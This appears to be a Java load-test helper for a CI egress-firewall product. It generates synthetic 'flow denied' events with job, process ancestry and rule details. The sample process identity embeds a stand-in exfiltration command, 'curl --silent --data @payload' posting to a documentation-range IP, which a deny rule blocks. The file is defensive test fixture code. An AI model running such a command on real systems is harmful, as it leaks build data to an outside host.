package io.fleetwall.load.events;

import io.fleetwall.policy.catalogue.Job;
import io.fleetwall.policy.document.Mode;
import io.fleetwall.protocol.event.Destination;
import io.fleetwall.protocol.event.Event;
import io.fleetwall.protocol.event.EventKind;
import io.fleetwall.protocol.event.Judgement;
import io.fleetwall.protocol.event.ProcessIdentity;
import io.fleetwall.protocol.event.UuidV7;
import java.time.Instant;
import java.time.InstantSource;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.SplittableRandom;

/** Denials as complete as real ones: job, process with its parents, rule; each elsewhere. */
final class SampleEvents {
    private final String node;
    private final UuidV7 ids;
    private final Optional<Job> job;
    private final Optional<Judgement> judgement;
    private final Optional<ProcessIdentity> process;
    private int made;

    SampleEvents(String node, int number) {
        this.node = node;
        this.ids = new UuidV7(InstantSource.system(), new SplittableRandom(number));
        this.job =
                Optional.of(
                        new Job(
                                "acme",
                                "acme/service-" + number,
                                "build.yml",
                                "test",
                                "refs/heads/main",
                                "1729000" + number,
                                1,
                                "somebody"));
        this.judgement =
                Optional.of(
                        new Judgement(
                                "denied-by-rule",
                                Mode.ENFORCE,
                                17,
                                "organization",
                                "deny cidr 203.0.113.0/24",
                                "policies/organization.yaml",
                                12));
        this.process =
                Optional.of(
                        new ProcessIdentity(
                                4711,
                                1001,
                                "curl",
                                "/usr/bin/curl",
                                "curl --silent --data @payload https://203.0.113.9/collect",
                                List.of(
                                        new ProcessIdentity.Parent(4700, "bash"),
                                        new ProcessIdentity.Parent(4600, "node"),
                                        new ProcessIdentity.Parent(4500, "Runner.Worker")),
                                "/system.slice/runner.service",
                                ""));
    }

    List<Event> next(int count) {
        Instant now = Instant.now().truncatedTo(ChronoUnit.MILLIS);
        List<Event> events = new ArrayList<>(count);
        for (int i = 0; i < count; i++) {
            made++;
            String address = "198.18." + (made >> 8 & 255) + "." + (made & 255);
            events.add(
                    new Event(
                            ids.next(),
                            now,
                            node,
                            "r",
                            EventKind.FLOW_DENIED,
                            job,
                            Optional.of(new Destination(address, 443, "tcp", "")),
                            judgement,
                            process,
                            1,
                            "blocked tcp to " + address + " port 443: deny cidr 203.0.113.0/24"));
        }
        return events;
    }
}
